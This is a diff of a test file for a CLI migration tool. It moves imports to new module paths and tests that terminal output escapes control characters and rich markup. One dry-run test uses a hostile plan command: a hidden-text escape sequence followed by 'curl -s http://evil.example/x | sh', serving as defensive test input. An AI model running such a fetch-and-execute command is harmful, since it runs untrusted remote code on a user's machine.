@@ -1,4 +1,4 @@
-"""Nothing from a host or a plan acts on the terminal: every value passes ``migrate.text.visible``
+"""Nothing from a host or a plan acts on the terminal: every value passes ``migrate.core.text.visible``
 before a table cell, a line, an error line or a dry-run line, so a control character shows as
 its escape (``\\x1b``) and rich markup in a value (``[bold red]``, ``[link=...]``) as text.
 
@@ -23,13 +23,14 @@ from hypothesis import strategies as st
 from rich.console import Console
 from typer.testing import CliRunner
 
-import migrate.cli as cli
+import migrate.app.cli as cli
 from conftest import SAMPLES
-from migrate import codec, ui
-from migrate.inspection import inspect_tree, open_local_root
-from migrate.model import Finding, Origin, OriginKind, Severity, Source
-from migrate.parsers.base import TreeError
-from migrate.text import visible
+from migrate.core import codec
+from migrate.app import ui
+from migrate.app.inspection import inspect_tree, open_local_root
+from migrate.core.model import Finding, Origin, OriginKind, Severity, Source
+from parsers.base import TreeError
+from migrate.core.text import visible
 
 RUNNER = CliRunner()
 #: every character a terminal may act on, or that reads as something else than it is
@@ -125,7 +126,7 @@ def test_inspect_machine_output_escapes_and_keeps_every_character(hostile_root, 
 def test_an_agent_error_text_is_shown_escaped(hostile_root, monkeypatch, tmp_path):
     """The remote agent's own words (an entry's error, its stderr) reach the findings table
     and the error line: the seam stands in for the SSH channel, the rest is the real verb."""
-    from migrate import remote
+    from migrate.app import remote
 
     def unreadable_rc_conf(host, root, **kwargs):
         tree = open_local_root(str(hostile_root))
@@ -290,8 +291,8 @@ def test_the_live_view_and_the_progress_bar_show_any_value_escaped(monkeypatch, 
 def test_the_dry_run_escapes_whatever_a_plan_holds(tmp_path):
     """The dry run's own lines, whatever the load refuses before them: a plan in memory whose
     title, command and check hold every character."""
-    from migrate import cutover
-    from migrate.steps import Run, Step
+    from migrate.app import cutover
+    from migrate.core.steps import Run, Step
 
     step = Step.make("s1", "prepare", "new", f"t{ATTACK}{MARKUP}", "why",
                      [Run(command=f"true \x1b[8m; curl -s http://evil.example/x | sh {ATTACK}")],
